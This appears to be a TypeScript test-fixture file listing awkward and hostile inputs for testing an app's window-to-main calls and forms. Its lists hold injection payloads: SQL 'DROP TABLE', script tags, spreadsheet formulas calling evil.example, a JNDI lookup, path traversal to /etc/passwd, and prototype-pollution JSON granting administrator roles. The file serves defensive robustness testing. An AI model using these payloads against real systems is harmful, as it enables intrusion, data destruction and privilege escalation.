/** Texts people could type or paste: each is a text like any other and must be kept, shown and found as it is. */
export const plausibleTexts: readonly string[] = [
  'Ada',
  'Inès Okafor',
  'Žofia Ďurišová-Łukasiewicz',
  'Müller',
  'O’Neill',
  "O'Neill; DROP TABLE cards; --",
  "' OR 1=1 --",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"quoted", and; separated\\',
  '=HYPERLINK("https://evil.example","click")',
  '+cmd|calc!A0',
  '@SUM(1+1)',
  '-2+3',
  '../../../../etc/passwd',
  '..\\..\\windows\\system32',
  'file:///etc/passwd',
  '%00%0a%s%n%x',
  '$' + '{jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  '0',
  '-1',
  '1e309',
  'C-000001',
  '李小龍',
  'محمد ‏علي',
  '👩‍👩‍👧‍👦',
  'ﬁﬂ ﷺ Ⅷ',
  'İıß',
  'a\u0301'.repeat(10),
  '\u202eevil',
  '\u200bzero\u200dwidth\u2060',
  '2026-11-20',
  'A'.repeat(40),
]

/** Texts nobody types. Where a form takes one of them all the same, it is a text like any other. */
export const hostileTexts: readonly string[] = [
  'Ada \ud83d',
  '\udc69 Ada',
  'C-000001\u0000.json',
  'Ada\u0007\u001b[31m\r\nroot',
  '\u2028line\u2029',
  ' \t\u00a0\u3000',
  'ﷺ'.repeat(400),
  'ﷺ'.repeat(40),
  `e${'\u0301'.repeat(2000)}`,
  `e${'\u0301'.repeat(150)}`,
  'x'.repeat(200_000),
  `${' '.repeat(100_000)}x`,
  `${'a.'.repeat(20_000)}@${'b-'.repeat(20_000)}`,
  "' OR 1=1; DROP TABLE cards; --",
  '<script>alert(1)</script>',
  '=cmd|calc!A0',
  '../../../../etc/passwd',
  '__proto__',
]

/** Addresses of web services, none of which is ever asked: the desk is given a bureau of its own. */
export const addresses = ['', 'https://bureau.example/', 'https://bureau.example/v1/', 'http://127.0.0.1:9/', 'ftp://x']

export const emails = ['', 'ada@example.org', 'o.neill+desk@mail.example.com', 'a@b.co']

/** A value no screen would send, by what it is. */
export interface Hostile {
  readonly name: string
  readonly make: () => unknown
}

const nested = (depth: number, wrap: (inner: unknown) => unknown) => () => {
  let value: unknown = 1
  for (let level = 0; level < depth; level += 1) value = wrap(value)
  return value
}

function cyclicObject(): unknown {
  const object: Record<string, unknown> = { card: 'C-000001' }
  object.self = object
  return object
}

function cyclicList(): unknown {
  const list: unknown[] = []
  list.push(list)
  return list
}

/** All of them survive the structured clone that carries a call from a window to main. */
export const hostileValues: readonly Hostile[] = [
  { name: 'undefined', make: () => undefined },
  { name: 'null', make: () => null },
  { name: 'true', make: () => true },
  { name: 'an empty text', make: () => '' },
  { name: '0', make: () => 0 },
  { name: '-0', make: () => -0 },
  { name: '-1', make: () => -1 },
  { name: 'half', make: () => 0.5 },
  { name: 'NaN', make: () => Number.NaN },
  { name: 'Infinity', make: () => Number.POSITIVE_INFINITY },
  { name: '-Infinity', make: () => Number.NEGATIVE_INFINITY },
  { name: '2^53', make: () => 2 ** 53 },
  { name: '1e308', make: () => 1e308 },
  { name: 'a big integer', make: () => 10n ** 30n },
  { name: 'a date', make: () => new Date(0) },
  { name: 'an invalid date', make: () => new Date(Number.NaN) },
  { name: 'a pattern', make: () => /(a+)+$/ },
  { name: 'an error', make: () => new Error('from the window') },
  { name: 'a map', make: () => new Map([['card', 'C-000001']]) },
  { name: 'a set', make: () => new Set(['C-000001']) },
  { name: 'a boxed text', make: () => Object('C-000001') },
  { name: 'bytes', make: () => new Uint8Array(64) },
  { name: 'a buffer', make: () => new ArrayBuffer(64) },
  { name: 'an empty object', make: () => ({}) },
  { name: 'an empty list', make: () => [] },
  { name: 'an object with its own __proto__', make: () => JSON.parse('{"__proto__":{"roles":["administrator"]}}') },
  { name: 'an object with a constructor', make: () => JSON.parse('{"constructor":{"prototype":{"ok":true}}}') },
  { name: 'an object that is no text', make: () => ({ toString: 1, valueOf: 1, toJSON: 1 }) },
  { name: 'an object with then', make: () => JSON.parse('{"then":1}') },
  { name: 'an object with a length', make: () => ({ length: 4_294_967_295, 0: 'C-000001' }) },
  { name: 'a cyclic object', make: cyclicObject },
  { name: 'a cyclic list', make: cyclicList },
  { name: 'a list 1000 deep', make: nested(1000, (inner) => [inner]) },
  { name: 'an object 1000 deep', make: nested(1000, (inner) => ({ answers: inner })) },
  { name: 'a list with holes', make: () => Object.assign([], { length: 100_000 }) },
  { name: 'a list of 20,000 texts', make: () => Array.from({ length: 20_000 }, (_, index) => `C-${index}`) },
  {
    name: 'an object of 5,000 members',
    make: () => Object.fromEntries(Array.from({ length: 5000 }, (_, index) => [`member ${index}`, index])),
  },
  ...hostileTexts.map((text) => ({ name: JSON.stringify(text.slice(0, 40)), make: () => text })),
]

/** Names of members no form has. */
export const strangeMembers = [
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'toJSON',
  '',
  ' ',
  '0',
  'role',
  'administrator',
  'x'.repeat(1000),
  '\ud800',
] as const

/** What nobody can call. */
export const unknownChannels = [
  '',
  ' ',
  'session',
  'session.',
  '.state',
  'session.state ',
  'Session.State',
  'toString',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'cards.delete',
  'desk.notice',
  'x'.repeat(100_000),
  'session.state\u0000',
  '\ud800',
  '../../session.state',
] as const
